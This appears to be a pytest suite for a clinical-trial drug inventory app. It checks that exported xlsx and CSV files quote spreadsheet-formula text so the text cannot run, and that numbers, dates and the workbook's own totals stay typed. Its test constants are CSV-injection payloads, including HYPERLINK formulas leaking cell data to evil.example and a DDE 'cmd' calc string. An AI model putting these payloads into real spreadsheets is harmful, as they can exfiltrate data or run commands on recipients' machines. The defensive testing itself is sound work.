"""Exports are data, never code: text that a spreadsheet would run (OWASP's CSV
injection) is typed into every field that reaches the sponsor workbook and the CDISC file,
through the real services; the real xlsx holds it as quoted text (never a formula cell)
and the real CSV as quoted text, while numbers, dates and the workbook's own totals stay
typed."""

from __future__ import annotations

import csv
import datetime as dt
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook  # type: ignore[import-untyped]

from ids_app.db import Database, today
from ids_app.inventory.dispensing import reject_order
from ids_app.inventory.models import DispenseOrder, HoldReason, Kit, Shipment
from ids_app.inventory.quarantine import quarantine_stock
from ids_app.inventory.receiving import ReceivedLine, ShipmentReceipt, receive_shipment
from ids_app.inventory.returns import record_return
from ids_app.reports.cells import FORMULA_STARTS, SKIPPED_BEFORE_A_FORMULA, Formula, cell_value
from ids_app.reports.exports import export_sponsor_workbook
from ids_app.reports.sheet_writer import Column, SheetWriter, new_cell
from ids_app.studies.models import Study
from tests.factories import EXPIRY, TODAY, Example, make_example, receive_kits
from tests.inventory.test_dispensing import dispense_kit, order_kit, prepare

# Each payload names where it was typed, so a leak says which field let it through.
KIT = "=1+1"  # a kit number from a sponsor's list
KITS = (KIT, "+1+1", "-1+1", "@SUM(1)")
SHIPMENT = '=HYPERLINK("http://evil.example/?leak="&A1,"shipment")'
SENDER = "+cmd|' /C calc'!A0 sender"
NOTES = "-2+3+cmd notes"
VISIT = "@SUM(1+1)*cmd visit"
CONDITION = ' =HYPERLINK("http://evil.example/?condition")'
DETAILS = '=HYPERLINK("http://evil.example/?details"&A1)'
REASON = "\uff1d1+1 rejected"
TYPED = (SHIPMENT, SENDER, NOTES, VISIT, CONDITION, DETAILS, REASON, *KITS)
# The workbook's own formulas: totals and the Summary's reconciliation.
OWN_FORMULA = re.compile(
    r"^=(SUM\(|SUMIFS\(|IF\([A-Z]\d+=|Accountability!\$|[A-Z]\d+\+[A-Z]\d+|\d+\+[A-Z]\d+)"
)


def runs_in_a_spreadsheet(text: str) -> bool:
    return text.startswith(("\t", "\r")) or text.lstrip(SKIPPED_BEFORE_A_FORMULA).startswith(
        FORMULA_STARTS
    )


@pytest.mark.parametrize(
    "typed",
    [*TYPED, "\t=1+1", "\r=1+1", "\n=1+1", "\u00a0=1", "=", "-", "@", "+"],
)
def test_text_that_would_run_is_quoted_and_kept_whole(typed: str) -> None:
    written = cell_value(typed)
    assert written == "'" + typed
    assert not runs_in_a_spreadsheet(written)


@pytest.mark.parametrize("typed", ["Acme Depot", "1007", "L2301", "Visit 2", "a-b", "x=1", ""])
def test_ordinary_text_is_written_as_typed(typed: str) -> None:
    assert cell_value(typed) == typed


@given(st.text())
def test_no_text_ever_leaves_as_a_formula(typed: str) -> None:
    written = cell_value(typed)
    assert not runs_in_a_spreadsheet(written)
    assert written.endswith(typed)  # nothing of what was typed is lost


@pytest.mark.parametrize("value", [3, -3, 2.5, dt.date(2027, 5, 31), None, True])
def test_numbers_dates_and_empty_cells_stay_typed(value: object) -> None:
    assert cell_value(value) == value


def test_only_the_reports_own_formulas_are_formulas() -> None:
    assert cell_value(Formula("SUM(A2:A9)")) == "=SUM(A2:A9)"


@pytest.fixture
def typed(db: Database) -> Example:
    """ABC-123 whose sponsor's files and staff typed spreadsheet code into every field."""
    example = make_example(db)
    receive_kits(db, example)
    people = example.people
    receipt = ShipmentReceipt(
        shipment_number=SHIPMENT,
        sender=SENDER,
        carrier="World Courier",
        received_on=TODAY,
        location_id=example.shelf.id,
        lines=tuple(
            ReceivedLine(example.product.id, "L2301", EXPIRY, kit_number=kit) for kit in KITS
        ),
        notes=NOTES,
    )
    with db.unit_of_work() as session:
        study = session.get_one(Study, example.study.id)
        receive_shipment(session, people.tech, study, receipt)
        held = session.query(Kit).filter(Kit.kit_number == "@SUM(1)").one()
        quarantine_stock(
            session, people.pharm, study, reason=HoldReason.DAMAGE, details=DETAILS, kit=held
        )
    dispensed = dispense_kit(db, example, KIT, visit=VISIT)
    with db.unit_of_work() as session:
        record_return(
            session,
            people.tech,
            session.get_one(DispenseOrder, dispensed),
            returned_on=today(),
            quantity=1,
            units_counted=3,
            condition=CONDITION,
            location=example.returns,
        )
    rejected = order_kit(db, example, "1008")
    prepare(db, example, rejected, kit_number="1008")
    with db.unit_of_work() as session:
        reject_order(session, people.pharm, session.get_one(DispenseOrder, rejected), REASON)
        assert session.query(Shipment).filter(Shipment.shipment_number == SHIPMENT).one()
    return example


def test_the_workbook_holds_typed_code_as_text_and_only_its_own_formulas(
    db: Database, typed: Example, tmp_path: Path
) -> None:
    written = export_sponsor_workbook(
        db, typed.people.tech, "ABC-123", tmp_path / "abc.xlsx", cdisc_out=tmp_path / "da.csv"
    )
    book = load_workbook(written.path)
    texts: list[str] = []
    formulas = numbers = dates = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas += 1
                    assert OWN_FORMULA.match(str(cell.value)), (sheet.title, cell.coordinate)
                elif cell.data_type == "s":
                    texts.append(cell.value)
                    assert not runs_in_a_spreadsheet(cell.value), (sheet.title, cell.coordinate)
                elif cell.data_type == "n":
                    numbers += 1
                elif cell.data_type == "d":
                    dates += 1
    # totals, counts and dates stay typed
    assert formulas > 0
    assert numbers > 0
    assert dates > 0
    every_text = "\n".join(texts)
    shown = [p for p in TYPED if "'" + p in every_text or "'" + p.strip() in every_text]
    assert sorted(shown) == sorted(set(TYPED) - {NOTES})  # the notes go to the binder only


def test_the_cdisc_file_holds_typed_code_as_text(
    db: Database, typed: Example, tmp_path: Path
) -> None:
    written = export_sponsor_workbook(
        db, typed.people.tech, "ABC-123", tmp_path / "abc.xlsx", cdisc_out=tmp_path / "da.csv"
    )
    assert written.cdisc_path is not None
    with written.cdisc_path.open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    typed_cells = [cell for cell in cells if "1+1" in cell or "CMD" in cell.upper()]
    assert "'" + KIT in typed_cells  # the kit number as the dispense's reference
    assert [cell for cell in typed_cells if "VISIT" in cell.upper()]
    assert not [cell for cell in typed_cells if runs_in_a_spreadsheet(cell)]


def test_a_workbook_cell_stores_text_as_text_and_only_its_own_formulas(tmp_path: Path) -> None:
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Cells")
    values: list[object] = [
        "=1+1",
        "#N/A",
        "-5 tablets",
        -5,
        2.5,
        dt.date(2026, 11, 3),
        Formula("SUM(D1:E1)"),
    ]
    sheet.append([new_cell(sheet, value) for value in values])
    book.save(tmp_path / "cells.xlsx")
    (row,) = load_workbook(tmp_path / "cells.xlsx")["Cells"].iter_rows()
    assert [c.data_type for c in row] == ["s", "s", "s", "n", "n", "d", "f"]
    assert [c.value for c in row] == [
        "'=1+1",
        "#N/A",
        "'-5 tablets",
        -5,
        2.5,
        dt.datetime(2026, 11, 3),
        "=SUM(D1:E1)",
    ]


def test_a_data_row_stores_the_same_cells_as_the_cell_factory(tmp_path: Path) -> None:
    """A data row skips building a cell where openpyxl would store the value the same way;
    read back, its cells are the cell factory's: same types, values and formats."""
    values: list[object] = [
        "=1+1",
        "#N/A",
        "#DIV/0!",
        "-5 tablets",
        "plain text",
        -5,
        2.5,
        7,
        dt.date(2026, 11, 3),
        dt.datetime(2026, 11, 3, 14, 5),
        None,
        None,
    ]
    kinds = ["text"] * 5 + ["text", "float", "int", "date", "time", "int", "text"]
    columns = [Column(f"C{i}", 10, kind) for i, kind in enumerate(kinds)]
    book = Workbook(write_only=True)
    writer = SheetWriter(book, "Row", columns)
    writer.row(values)
    factory = book.create_sheet("Factory")
    made = []
    for value, column in zip(values, columns, strict=True):
        cell = new_cell(factory, value)
        if column.number_format is not None and value is not None:
            cell.number_format = column.number_format
        made.append(cell)
    factory.append(made)
    book.save(tmp_path / "cells.xlsx")
    read = load_workbook(tmp_path / "cells.xlsx")
    (row,) = read["Row"].iter_rows(min_row=2, max_col=len(columns))
    (expected,) = read["Factory"].iter_rows(max_col=len(columns))

    def shown(cells: tuple[object, ...]) -> list[tuple[object, ...]]:
        return [(c.data_type, c.value, c.number_format) for c in cells]  # type: ignore[attr-defined]

    assert shown(row) == shown(expected)
    assert [c.data_type for c in row][:5] == ["s"] * 5
    assert [c.value for c in row][:2] == ["'=1+1", "#N/A"]
    assert [c.number_format for c in row][8:10] == ["yyyy-mm-dd", "yyyy-mm-dd hh:mm"]
